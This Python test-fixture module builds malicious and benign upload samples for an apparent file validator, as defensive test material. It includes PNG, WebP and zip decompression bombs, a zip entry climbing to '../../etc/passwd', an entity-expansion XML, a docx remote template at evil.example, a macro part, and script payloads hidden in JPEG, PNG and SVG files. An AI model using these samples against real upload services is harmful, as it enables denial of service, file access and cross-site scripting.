"""Nasty and honest files, made from nothing. Each builder returns bytes."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from PIL import Image
from PIL.TiffImagePlugin import IFDRational

SECRET_DEVICE = "SPYPHONE-9000"


def picture(kind: str = "JPEG", size: tuple[int, int] = (640, 480), **more: object) -> bytes:
    out = io.BytesIO()
    picture = Image.linear_gradient("L").resize(size).convert("RGB")
    picture.save(out, kind, **more)
    return out.getvalue()


def photo_with_gps(orientation: int = 1, kind: str = "JPEG") -> bytes:
    exif = Image.Exif()
    exif[0x010F], exif[0x0110], exif[0x0112] = "Anvil", SECRET_DEVICE, orientation
    exif.get_ifd(0x8769)[0x9003] = "2026:11:20 08:30:15"
    place = exif.get_ifd(0x8825)
    place[1], place[2] = "N", (IFDRational(31), IFDRational(42), IFDRational(36))
    place[3], place[4] = "E", (IFDRational(119), IFDRational(56), IFDRational(24))
    return picture(kind, (800, 600), exif=exif)


def png_chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def png_header(width: int, height: int, *chunks: bytes) -> bytes:
    head = png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(chunks) + png_chunk(b"IEND", b"")


def png_bomb() -> bytes:
    """30,000 x 30,000 pixels, all black, that deflate to about 100 KB."""
    squeeze = zlib.compressobj(9)
    head = png_chunk(b"IHDR", struct.pack(">IIBBBBB", 30_000, 30_000, 1, 0, 0, 0, 0))
    row = b"\0" * (1 + 30_000 // 8)
    data = b"".join(squeeze.compress(row) for _ in range(30_000)) + squeeze.flush()
    return b"\x89PNG\r\n\x1a\n" + head + png_chunk(b"IDAT", data) + png_chunk(b"IEND", b"")


def png_text_bomb() -> bytes:
    text = b"Comment\0\0" + zlib.compress(b"A" * 200_000_000, 9)
    return png_header(10, 10, png_chunk(b"zTXt", text))


def webp_bomb() -> bytes:
    size = (16_383 - 1).to_bytes(3, "little") * 2
    body = b"WEBPVP8X" + struct.pack("<I", 10) + b"\x10\0\0\0" + size
    return b"RIFF" + struct.pack("<I", len(body)) + body


def archive(parts: dict[str, bytes], level: int = 9) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as target:
        for name, data in parts.items():
            target.writestr(name, data)
    return out.getvalue()


TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package"/>'


def docx(**more: bytes) -> bytes:
    parts = {"[Content_Types].xml": TYPES, "word/document.xml": b"<w:document>" + b"x" * 500}
    return archive({**parts, **{name.replace("__", "/"): data for name, data in more.items()}})


def docx_with(name: str, data: bytes) -> bytes:
    return archive(
        {"[Content_Types].xml": TYPES, "word/document.xml": b"<w:document/>", name: data}
    )


def xlsx() -> bytes:
    return archive({"[Content_Types].xml": TYPES, "xl/workbook.xml": b"<workbook/>"})


def zip_bomb() -> bytes:
    return docx_with("word/media/image1.xml", b"\0" * 300_000_000)


def forged_size() -> bytes:
    """A part that says it is small and is not: both size fields are changed."""
    good = docx_with("word/big.xml", b"A" * 5_000_000)
    return good.replace(struct.pack("<I", 5_000_000), struct.pack("<I", 500))


def many_parts() -> bytes:
    return archive({f"word/{number}.xml": b"" for number in range(1_500)})


def lying_directory() -> bytes:
    """An end record that claims a directory of 4 GB."""
    good = bytearray(docx())
    end = good.rfind(b"PK\x05\x06")
    good[end + 12 : end + 16] = b"\xff\xff\xff\xff"
    return bytes(good)


def locked_docx() -> bytes:
    good = bytearray(docx())
    good[6] |= 1  # local header flags
    at = good.find(b"PK\x01\x02")
    good[at + 8] |= 1
    return bytes(good)


def jpeg_with_script() -> bytes:
    html = b"<script>alert(document.cookie)</script>"
    good = picture()
    return good[:2] + b"\xff\xfe" + struct.pack(">H", len(html) + 2) + html + good[2:] + html


def png_with_html() -> bytes:
    html = b"<html><body onload=alert(1)>"
    good = picture("PNG")
    text = png_chunk(b"tEXt", b"Comment\0" + html)
    return good[:33] + text + good[33:] + html


def gif_in_jpeg_clothes() -> bytes:
    return b"GIF89a" + picture()


PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
LAUGHS = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><l>&b;</l>'
REMOTE = (
    b'<Relationships><Relationship Type="http://x/attachedTemplate" '
    b'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)

REFUSED: dict[str, Callable[[], bytes]] = {
    "nothing": lambda: b"",
    "one byte": lambda: b"\xff",
    "plain text": lambda: "今天演练很好".encode(),
    "png of 900 Mpx, header only": lambda: png_header(30_000, 30_000),
    "png of 900 Mpx that unpacks": png_bomb,
    "png of 2^31 pixels wide": lambda: png_header(2**31 - 1, 1),
    "png of no size": lambda: png_header(0, 0),
    "png without pixels": lambda: png_header(10, 10),
    "png with a text bomb": png_text_bomb,
    "png cut in half": lambda: picture("PNG")[:-2_000],
    "webp of 268 Mpx": webp_bomb,
    "webp cut": lambda: picture("WEBP")[:200],
    "jpeg cut in half": lambda: (good := picture(quality=95))[: len(good) // 2],
    "jpeg start and nothing else": lambda: b"\xff\xd8\xff\xe0",
    "jpeg of noise": lambda: b"\xff\xd8\xff\xe0" + b"\x00noise" * 500,
    "thin picture": lambda: picture("PNG", (9_000, 10)),
    "heic of noise": lambda: b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x7f" * 900,
    "avif": lambda: picture("AVIF"),
    "gif": lambda: picture("GIF"),
    "gif header on a jpeg": gif_in_jpeg_clothes,
    "bmp": lambda: picture("BMP"),
    "tiff": lambda: picture("TIFF"),
    "svg with script": lambda: SVG,
    "svg behind a byte order mark": lambda: b"\xef\xbb\xbf\n" + SVG,
    "html page": lambda: b"<!DOCTYPE html><script>alert(1)</script>",
    "mp4 video": lambda: b"\x00\x00\x00\x20ftypisom" + b"\0" * 100,
    "windows program": lambda: b"MZ" + b"\0" * 500,
    "old word file": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500,
    "zip of photos": lambda: archive({"a.jpg": picture()}),
    "zip bomb in docx": zip_bomb,
    "zip with a forged size": forged_size,
    "zip of 1,500 parts": many_parts,
    "zip with a lying directory": lying_directory,
    "zip that climbs out": lambda: docx_with("../../etc/passwd", b"x"),
    "zip with windows paths": lambda: docx_with("word\\..\\x", b"x"),
    "docx with macros": lambda: docx_with("word/vbaProject.bin", b"x"),
    "docx with entities": lambda: docx_with("word/styles.xml", LAUGHS),
    "docx with a remote template": lambda: docx_with("word/_rels/settings.xml.rels", REMOTE),
    "docx behind a password": locked_docx,
    "docx cut in half": lambda: (good := docx())[: len(good) // 2],
    "empty zip": lambda: b"PK\x05\x06" + b"\0" * 18,
    "pdf without an end": lambda: PDF[:40],
    "pdf behind html": lambda: b"<html>" + PDF,
    "tar gz": lambda: b"\x1f\x8b\x08" + b"\0" * 100,
}

# Accepted, but nothing of what they carry may come through.
NEUTRALISED: dict[str, Callable[[], bytes]] = {
    "jpeg with gps and device": photo_with_gps,
    "webp with gps and device": lambda: photo_with_gps(kind="WEBP"),
    "png with gps and device": lambda: photo_with_gps(kind="PNG"),
    "jpeg with a script inside and behind": jpeg_with_script,
    "png that is also a page": png_with_html,
}
